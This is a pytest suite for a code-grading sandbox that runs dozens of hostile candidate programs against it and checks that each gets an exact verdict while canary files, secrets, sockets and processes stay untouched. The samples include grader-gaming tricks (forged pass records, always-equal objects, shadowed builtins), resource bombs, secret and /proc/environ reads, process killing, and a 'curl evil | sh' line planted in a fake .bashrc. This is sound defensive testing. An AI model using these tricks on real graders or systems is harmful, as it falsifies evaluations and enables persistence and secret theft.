"""Hostile candidates: each must get an exact verdict and leave no trace behind.

Every case runs in every available containment tier. After each case the world
fixture checks that the canary files are untouched, that no listener saw a
connection or datagram, that the victim process is alive, that the planted secret
never reached the output, and that no sandbox process is left running.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest

from lsc_tui.sandbox import Limits, Sandbox, probe_tiers
from lsc_tui.sandbox.result import CheckResult
from lsc_tui.sandbox.tiers import RUNNER_DIR

CONTAINED_TIERS = ("bubblewrap", "landlock-seccomp")
SECRET = "hunter2-lsc-planted-secret"
CANARY_TEXT = "canary: do not touch"


def _available(name: str) -> bool:
    return any(s.name == name and s.available for s in probe_tiers())


def test_some_containment_tier_is_available() -> None:
    """CI must have at least one real containment tier, or the suite proves nothing."""
    assert any(_available(name) for name in CONTAINED_TIERS), probe_tiers()


@pytest.fixture(params=CONTAINED_TIERS, scope="module")
def sandbox(request: pytest.FixtureRequest) -> Sandbox:
    """A sandbox forced onto one tier, with short limits so bombs stay cheap."""
    if not _available(request.param):
        pytest.skip(f"tier {request.param} is not available here")
    limits = Limits(test_timeout_s=3.0, total_timeout_s=20.0, memory_mb=128)
    return Sandbox(limits, tier=request.param)


@dataclass
class World:
    """Things outside the sandbox that hostile code will try to reach."""

    canary_dir: Path
    canary: Path
    secret_file: Path
    fake_home: Path
    tcp: socket.socket
    udp: socket.socket
    unix: socket.socket
    unix_path: Path
    abstract: socket.socket
    abstract_name: str
    victim: subprocess.Popen[bytes]
    snapshot: dict[str, str] = field(default_factory=dict)
    started: float = field(default_factory=lambda: time.time() - 0.5)

    def fill(self, code: str) -> str:
        """Substitute the @NAME@ tokens a case's code uses."""
        tokens = {
            "@CANARY_DIR@": str(self.canary_dir),
            "@CANARY@": str(self.canary),
            "@SECRET_FILE@": str(self.secret_file),
            "@FAKE_HOME@": str(self.fake_home),
            "@TCP_PORT@": str(self.tcp.getsockname()[1]),
            "@UDP_PORT@": str(self.udp.getsockname()[1]),
            "@UNIX_PATH@": str(self.unix_path),
            "@ABSTRACT@": self.abstract_name,
            "@VICTIM_PID@": str(self.victim.pid),
            "@PARENT_PID@": str(os.getpid()),
        }
        for token, value in tokens.items():
            code = code.replace(token, value)
        return code

    def tree(self) -> dict[str, str]:
        """Every file under the canary and fake-home directories with its content."""
        found: dict[str, str] = {}
        for root in (self.canary_dir, self.fake_home, self.secret_file.parent):
            for path in sorted(root.rglob("*")):
                if path.is_file() and not path.is_socket():
                    found[str(path)] = path.read_text(errors="replace")
                elif not path.is_socket():
                    found[str(path)] = "<dir>"
        return found

    def assert_untouched(self, result: CheckResult | None = None) -> None:
        """The checks every hostile case ends with."""
        assert self.tree() == self.snapshot, "files outside the sandbox changed"
        for listener in (self.tcp, self.unix, self.abstract):
            with pytest.raises(BlockingIOError):
                listener.accept()
        with pytest.raises(BlockingIOError):
            self.udp.recvfrom(16)
        assert self.victim.poll() is None, "the victim process was killed"
        if result is not None:
            assert SECRET not in result.stdout + result.stderr
            assert SECRET not in " ".join(t.message for t in result.tests)
        leftovers = _runner_processes(self.started)
        assert leftovers == [], f"sandbox processes left running: {leftovers}"


def _runner_processes(since: float) -> list[str]:
    """Sandbox runners started by this test (since ``since``) that are still alive.

    Other people's sandboxes on a shared machine are ignored: only descendants
    of this process and orphans adopted by init count.
    """
    marks = (str(RUNNER_DIR / "child.py"), "/lsc/runner/child.py", "bwrap")
    ours = {p.pid for p in psutil.Process().children(recursive=True)}
    found = []
    for proc in psutil.process_iter(
        ["cmdline", "pid", "ppid", "status", "create_time"]
    ):
        info = proc.info
        if info["status"] == psutil.STATUS_ZOMBIE or info["create_time"] < since:
            continue
        cmdline = " ".join(info["cmdline"] or [])
        if not any(mark in cmdline for mark in marks):
            continue
        if info["pid"] in ours or info["ppid"] in (0, 1):
            found.append(f"{info['pid']}: {cmdline[:120]}")
    return found


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    """Canary files, a planted secret, listeners on every socket kind, a victim."""
    canary_dir = tmp_path / "canary"
    canary_dir.mkdir()
    canary = canary_dir / "keep.txt"
    canary.write_text(CANARY_TEXT)
    secret_dir = tmp_path / "secret"
    secret_dir.mkdir()
    secret_file = secret_dir / "secret.txt"
    secret_file.write_text(SECRET)
    fake_home = tmp_path / "home"
    fake_home.mkdir()
    (fake_home / ".bashrc").write_text("# canary bashrc\n")
    monkeypatch.setenv("LSC_TEST_SECRET", SECRET)
    monkeypatch.setenv("HOME", str(fake_home))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(4)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = tmp_path / "listener.sock"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(unix_path))
    unix.listen(4)
    os.chmod(unix_path, 0o777)
    abstract_name = f"lsc-hostile-{os.getpid()}-{tmp_path.name}"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + abstract_name)
    abstract.listen(4)
    for sock in (tcp, udp, unix, abstract):
        sock.setblocking(False)
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    world = World(
        canary_dir,
        canary,
        secret_file,
        fake_home,
        tcp,
        udp,
        unix,
        unix_path,
        abstract,
        abstract_name,
        victim,
    )
    world.snapshot = world.tree()
    try:
        yield world
    finally:
        victim.kill()
        victim.wait()
        for sock in (tcp, udp, unix, abstract):
            sock.close()


@dataclass(frozen=True)
class Case:
    """One hostile candidate and exactly what the sandbox must say about it."""

    id: str
    code: str
    tests: tuple[str, ...]
    verdict: str
    statuses: tuple[str, ...]
    message: str = ""
    """A fragment the first non-passing test's message must contain."""
    setup: str = ""


CASES: tuple[Case, ...] = (
    # --- exit tricks ---------------------------------------------------------
    Case(
        "exit_at_import",
        "import sys\nsys.exit(0)\ndef f(x):\n    return x\n",
        ("assert f(1) == 1",),
        "crashed",
        ("crashed",),
        "SystemExit(0)",
    ),
    Case(
        "os_exit_at_import",
        "import os\nos._exit(0)\ndef f(x):\n    return x\n",
        ("assert f(1) == 1", "assert f(2) == 2"),
        "crashed",
        ("crashed", "crashed"),
        "at import",
    ),
    Case(
        "exit_in_function",
        "def f(x):\n    raise SystemExit(0)\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "SystemExit",
    ),
    Case(
        "os_exit_in_function",
        "import os\ndef f(x):\n    os._exit(0)\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "died during the test",
    ),
    Case(
        "atexit_forces_success",
        "import atexit, os\natexit.register(lambda: os._exit(0))\n"
        "def f(x):\n    return x + 1\n",
        ("assert f(1) == 1",),
        "failed",
        ("failed",),
        "expected 1, got 2",
    ),
    Case(
        "excepthook_swallows_errors",
        "import sys\nsys.excepthook = lambda *a: None\n"
        "def f(x):\n    raise ValueError('nope')\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "ValueError: nope",
    ),
    Case(
        "exit_from_thread",
        "import os, threading, time\n"
        "def f(x):\n    threading.Thread(target=lambda: os._exit(0)).start()\n"
        "    time.sleep(0.5)\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "died",
    ),
    Case(
        "sigkill_self",
        "import os, signal\ndef f(x):\n    os.kill(os.getpid(), signal.SIGKILL)\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "died",
    ),
    # --- forged output and results -----------------------------------------
    Case(
        "prints_pass_markers",
        "print('PASSED'); print('{\"verdict\": \"passed\"}')\n"
        "import sys\nprint('ok', file=sys.stderr)\ndef f(x):\n    return 0\n",
        ("assert f(1) == 1",),
        "failed",
        ("failed",),
        "expected 1, got 0",
    ),
    Case(
        "forges_result_records",
        "import os\n"
        "for fd in range(3, 1024):\n"
        "    try:\n"
        '        os.write(fd, b\'{"k":"imported"}\\n{"k":"op","i":0,"s":"ok",'
        '"v":["i","1"]}\\n\')\n'
        "    except OSError:\n        pass\n"
        "def f(x):\n    return 0\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "tampered",
    ),
    Case(
        "patches_json_to_forge",
        "import json\n"
        'json.dumps = lambda *a, **k: \'{"k":"op","i":0,"s":"ok","v":["i","1"]}\'\n'
        "def f(x):\n    return 0\n",
        ("assert f(1) == 1",),
        "failed",
        ("failed",),
        "expected 1, got 0",
    ),
    Case(
        "writes_result_files",
        "import os\n"
        "for name in ('result.json', 'PASSED', 'verdict.txt'):\n"
        "    open(name, 'w').write('{\"verdict\": \"passed\"}')\n"
        "def f(x):\n    return 0\n",
        ("assert f(1) == 1",),
        "failed",
        ("failed",),
        "got 0",
    ),
    # --- objects that pretend to be equal -------------------------------------
    Case(
        "always_equal_object",
        "class Yes:\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "def f(x):\n    return Yes()\n",
        ("assert f(1) == 5",),
        "failed",
        ("failed",),
        "expected 5, got <Yes object>",
    ),
    Case(
        "int_subclass_always_equal",
        "class Num(int):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n"
        "def f(x):\n    return Num(0)\n",
        ("assert f(1) == 5",),
        "failed",
        ("failed",),
        "expected 5, got 0",
    ),
    Case(
        "str_subclass_always_equal",
        "class S(str):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = str.__hash__\n"
        "def f(x):\n    return S('no')\n",
        ("assert f(1) == 'yes'",),
        "failed",
        ("failed",),
        "expected 'yes', got 'no'",
    ),
    Case(
        "list_subclass_always_equal",
        "class L(list):\n    def __eq__(self, other):\n        return True\n"
        "def f(x):\n    return L([0])\n",
        ("assert f(1) == [1, 2]",),
        "failed",
        ("failed",),
        "expected [1, 2], got [0]",
    ),
    # --- shadowing and peeking -----------------------------------------------
    Case(
        "shadows_builtins",
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.set = lambda *a: {1, 2}\n"
        "builtins.AssertionError = type('Nope', (Exception,), {})\n"
        "def f(x):\n    return [9]\n",
        ("assert set(f(1)) == {1, 2}",),
        "crashed",
        ("crashed",),
        "tampered with builtins",
    ),
    Case(
        "shadows_builtins_during_call",
        "import builtins\n"
        "def f(x):\n    builtins.isinstance = lambda *a: True\n    return [9]\n",
        ("assert f(1) == [9]",),
        "failed",
        ("error",),
        "tampered with builtins",
    ),
    Case(
        "shadows_setup_import",
        "class math:\n    @staticmethod\n"
        "    def isclose(*a, **k):\n        return True\n"
        "def f(x):\n    return 0.0\n",
        ("import math", "assert math.isclose(f(1), 2.5)"),
        "failed",
        ("failed",),
        "assertion failed",
    ),
    Case(
        "reads_asserts_from_memory",
        "import gc, sys\n"
        "def f(x):\n"
        "    for obj in gc.get_objects():\n"
        "        if isinstance(obj, str) and '==' in obj and 'assert' in obj:\n"
        "            return eval(obj.split('==')[1])\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for value in frame.f_locals.values():\n"
        "            if isinstance(value, str) and '==' in value:\n"
        "                return eval(value.split('==')[1])\n"
        "        frame = frame.f_back\n"
        "    return None\n",
        ("assert f(1) == 1234",),
        "failed",
        ("failed",),
        "expected 1234, got None",
    ),
    Case(
        "answers_by_call_order",
        "calls = [0]\n"
        "def f(x):\n    calls[0] += 1\n    return [10, 20, 30][calls[0] - 1]\n",
        ("assert f(1) == 10", "assert f(2) == 20", "assert f(3) == 30"),
        "failed",
        ("passed", "failed", "failed"),
        "expected 20, got 10",
    ),
    # --- time ------------------------------------------------------------------
    Case(
        "infinite_loop",
        "def f(x):\n    while True:\n        pass\n",
        ("assert f(1) == 1",),
        "timeout",
        ("timeout",),
        "timed out",
    ),
    Case(
        "busy_at_import",
        "n = 0\nwhile True:\n    n += 1\ndef f(x):\n    return x\n",
        ("assert f(1) == 1",),
        "timeout",
        ("timeout",),
        "at import",
    ),
    Case(
        "sleeps_ignoring_signals",
        "import signal, time\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "def f(x):\n    time.sleep(60)\n",
        ("assert f(1) == 1",),
        "timeout",
        ("timeout",),
        "timed out",
    ),
    # --- bombs -------------------------------------------------------------------
    Case(
        "fork_bomb",
        "import os\ndef f(x):\n    while True:\n        os.fork()\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "PermissionError",
    ),
    Case(
        "thread_bomb",
        "import threading, time\n"
        "def f(x):\n    while True:\n"
        "        t = threading.Thread(target=time.sleep, args=(30,), daemon=True)\n"
        "        t.start()\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "thread",
    ),
    Case(
        "memory_bomb_at_once",
        "def f(x):\n    return [0] * (10 ** 10)\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "MemoryError",
    ),
    Case(
        "memory_bomb_gradual",
        "def f(x):\n    hoard = []\n    while True:\n"
        "        hoard.append(bytearray(10 ** 7))\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "MemoryError",
    ),
    Case(
        "huge_allocation_at_import",
        "x = bytes(10 ** 10)\ndef f(y):\n    return y\n",
        ("assert f(1) == 1",),
        "crashed",
        ("crashed",),
        "MemoryError",
    ),
    Case(
        "huge_stdout",
        "import sys\ndef f(x):\n    while True:\n"
        "        sys.stdout.write('x' * 65536)\n",
        ("assert f(1) == 1",),
        "timeout",
        ("timeout",),
        "timed out",
    ),
    Case(
        "deep_recursion",
        "def f(x):\n    return f(x) + 1\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "RecursionError",
    ),
    Case(
        "segfault_via_ctypes",
        "import ctypes\ndef f(x):\n    return ctypes.string_at(0)\n",
        ("assert f(1) == 1",),
        "failed",
        ("crashed",),
        "SIGSEGV",
    ),
    Case(
        "huge_file_in_tmp",
        "def f(x):\n    with open('/tmp/big', 'wb') as out:\n"
        "        out.write(b'x' * (64 << 20))\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "huge_return_value",
        "def f(x):\n    return 'x' * (8 << 20)\n",
        ("assert f(1) == 1",),
        "failed",
        ("failed",),
        "sha256",
    ),
    Case(
        "self_referencing_return_value",
        "def f(x):\n    a = []\n    a.append(a)\n    return a\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "nested too deeply",
    ),
    # --- files -------------------------------------------------------------------
    Case(
        "writes_outside_workdir",
        "def f(x):\n    open('@CANARY_DIR@/new.txt', 'w').write('pwned')\n"
        "    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "deletes_canary",
        "import os, shutil\ndef f(x):\n    os.remove('@CANARY@')\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "appends_to_home_bashrc",
        "def f(x):\n    open('@FAKE_HOME@/.bashrc', 'a').write('curl evil | sh\\n')\n"
        "    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "reads_secret_file",
        "def f(x):\n    return open('@SECRET_FILE@').read()\n",
        ("assert f(1) == 'x'",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "reads_secret_env",
        "import os\ndef f(x):\n"
        "    return os.environ.get('LSC_TEST_SECRET', 'absent')\n",
        ("assert f(1) == 'x'",),
        "failed",
        ("failed",),
        "got 'absent'",
    ),
    Case(
        "reads_parent_environ",
        "def f(x):\n"
        "    return open('/proc/@PARENT_PID@/environ', 'rb').read().decode()\n",
        ("assert f(1) == 'x'",),
        "failed",
        ("error",),
        "Error",
    ),
    # --- network -----------------------------------------------------------------
    Case(
        "tcp_to_loopback_listener",
        "import socket\n"
        "def f(x):\n"
        "    socket.create_connection(('127.0.0.1', @TCP_PORT@), timeout=1)\n"
        "    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "udp_to_loopback_listener",
        "import socket\n"
        "def f(x):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'leak', ('127.0.0.1', @UDP_PORT@))\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "unix_socket_listener",
        "import socket\n"
        "def f(x):\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect('@UNIX_PATH@')\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "abstract_unix_socket_listener",
        "import socket\n"
        "def f(x):\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect('\\0@ABSTRACT@')\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    # --- processes and signals ------------------------------------------------------
    Case(
        "subprocess_run",
        "import subprocess\n"
        "def f(x):\n    subprocess.run(['touch', '@CANARY_DIR@/sub'])\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "os_system",
        "import os\ndef f(x):\n    return os.system('touch @CANARY_DIR@/system')\n",
        ("assert f(1) == 0",),
        "failed",
        ("failed",),
        "expected 0",
    ),
    Case(
        "double_fork_daemon",
        "import os, time\n"
        "def f(x):\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n            time.sleep(60)\n        os._exit(0)\n"
        "    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "PermissionError",
    ),
    Case(
        "kills_victim_process",
        "import os, signal\n"
        "def f(x):\n    os.kill(@VICTIM_PID@, signal.SIGKILL)\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "kills_everything",
        "import os, signal\ndef f(x):\n    os.kill(-1, signal.SIGKILL)\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    Case(
        "signals_parent",
        "import os, signal\n"
        "def f(x):\n    os.kill(@PARENT_PID@, signal.SIGTERM)\n    return x\n",
        ("assert f(1) == 1",),
        "failed",
        ("error",),
        "Error",
    ),
    # --- input and source tricks ---------------------------------------------
    Case(
        "reads_stdin",
        "def f(x):\n    return input()\n",
        ("assert f(1) == 'x'",),
        "failed",
        ("error",),
        "EOFError",
    ),
    Case(
        "declares_latin1_encoding",
        "# -*- coding: latin-1 -*-\ndef f(x):\n    return x\n",
        ("assert f(1) == 1",),
        "syntax_error",
        ("not_run",),
        "",
    ),
    Case(
        "lone_surrogate_source",
        "def f(x):\n    return '\udcff'\n",
        ("assert f(1) == 1",),
        "syntax_error",
        ("not_run",),
        "",
    ),
    Case(
        "compile_time_nesting_bomb",
        "x = " + "[" * 5000 + "]" * 5000 + "\ndef f(y):\n    return y\n",
        ("assert f(1) == 1",),
        "syntax_error",
        ("not_run",),
        "",
    ),
    Case(
        "compile_time_constant_bomb",
        "x = (" + "1+" * 200_000 + "1)\ndef f(y):\n    return y\n",
        ("assert f(1) == 1",),
        "syntax_error",
        ("not_run",),
        "",
    ),
)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_candidate(case: Case, sandbox: Sandbox, world: World) -> None:
    """The verdict and statuses are exact, and nothing outside was touched."""
    result = sandbox.run_tests(
        world.fill(case.code), [world.fill(t) for t in case.tests], setup=case.setup
    )
    statuses = tuple(
        t.status for t in result.tests if not t.source.startswith("import")
    )
    assert (result.verdict, statuses) == (case.verdict, case.statuses), result
    if case.message:
        failing = next(t for t in result.tests if t.status != "passed")
        assert case.message in failing.message, failing
    if case.verdict == "syntax_error":
        assert result.compile_error is not None
    world.assert_untouched(result)


def test_huge_output_is_capped(sandbox: Sandbox, world: World) -> None:
    """A correct answer buried under megabytes of output passes; output is capped."""
    code = (
        "import sys\n"
        "def f(x):\n"
        "    for _ in range(300):\n"
        "        print('x' * 10000)\n"
        "        print('y' * 10000, file=sys.stderr)\n"
        "    return x * 2\n"
    )
    result = sandbox.run_tests(code, ["assert f(2) == 4"])
    assert result.verdict == "passed"
    limit = sandbox.limits.output_limit_bytes
    assert len(result.stdout) + len(result.stderr) <= limit + 100
    assert result.stdout.endswith("[output truncated]") or result.stderr.endswith(
        "[output truncated]"
    )
    world.assert_untouched(result)


def test_correct_solution_printing_to_stderr_passes(
    sandbox: Sandbox, world: World
) -> None:
    """Correct code passes even when it writes to stderr and exits oddly at the end."""
    code = (
        "import sys, atexit, os\n"
        "atexit.register(lambda: os._exit(3))\n"
        "def add(a, b):\n"
        "    print('debug', a, b, file=sys.stderr)\n"
        "    return a + b\n"
    )
    result = sandbox.run_tests(
        code, ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]
    )
    assert result.verdict == "passed"
    assert result.passed == 2
    assert "debug 1 2" in result.stderr
    world.assert_untouched(result)


def test_work_directory_and_home_are_private(sandbox: Sandbox, world: World) -> None:
    """Writing in the cwd or ~ works and leaves nothing on the host."""
    code = (
        "import os\n"
        "def f(x):\n"
        "    for path in ('here.txt', os.path.expanduser('~/note.txt')):\n"
        "        with open(path, 'w') as out:\n"
        "            out.write('hello')\n"
        "    return open('here.txt').read()\n"
    )
    result = sandbox.run_tests(code, ["assert f(1) == 'hello'"])
    assert result.verdict == "passed", result
    assert not (world.fake_home / "note.txt").exists()
    world.assert_untouched(result)


def test_batch_survives_hostile_inputs(sandbox: Sandbox, world: World) -> None:
    """call_batch: a crash or hang on one input does not affect the others."""
    code = (
        "import os, time\n"
        "def f(x):\n"
        "    if x == 2:\n        time.sleep(60)\n"
        "    if x == 4:\n        os._exit(0)\n"
        "    if x == 6:\n        raise ValueError('six')\n"
        "    return x * 10\n"
    )
    outcomes = sandbox.call_batch(
        code, "f", [[i] for i in range(8)], per_call_timeout_s=0.5, total_timeout_s=10
    )
    assert [o.status for o in outcomes] == [
        "ok", "ok", "timeout", "ok", "crashed", "ok", "error", "ok",
    ]  # fmt: skip
    assert [o.value for o in outcomes if o.status == "ok"] == [0, 10, 30, 50, 70]
    assert "ValueError: six" in outcomes[6].message
    world.assert_untouched()


def test_batch_forged_records_are_not_trusted(sandbox: Sandbox, world: World) -> None:
    """Records forged on the result channel make every output of that process void."""
    code = (
        "import os\n"
        "for fd in range(3, 1024):\n"
        "    try:\n"
        '        os.write(fd, b\'{"k":"imported"}\\n\')\n'
        "    except OSError:\n        pass\n"
        "def f(x):\n    return x\n"
    )
    outcomes = sandbox.call_batch(code, "f", [[1], [2]])
    assert [o.status for o in outcomes] == ["crashed", "crashed"]
    world.assert_untouched()


def test_sigterm_to_parent_is_not_delivered(sandbox: Sandbox, world: World) -> None:
    """The parent (this process) survives and still has its own SIGTERM handler."""
    before = signal.getsignal(signal.SIGTERM)
    code = "import os, signal\ndef f(x):\n    os.kill(os.getppid(), signal.SIGTERM)\n"
    result = sandbox.run_tests(code, ["assert f(1) is None"])
    assert signal.getsignal(signal.SIGTERM) == before
    assert result.verdict == "failed"
    assert result.tests[0].status == "error"
    world.assert_untouched(result)
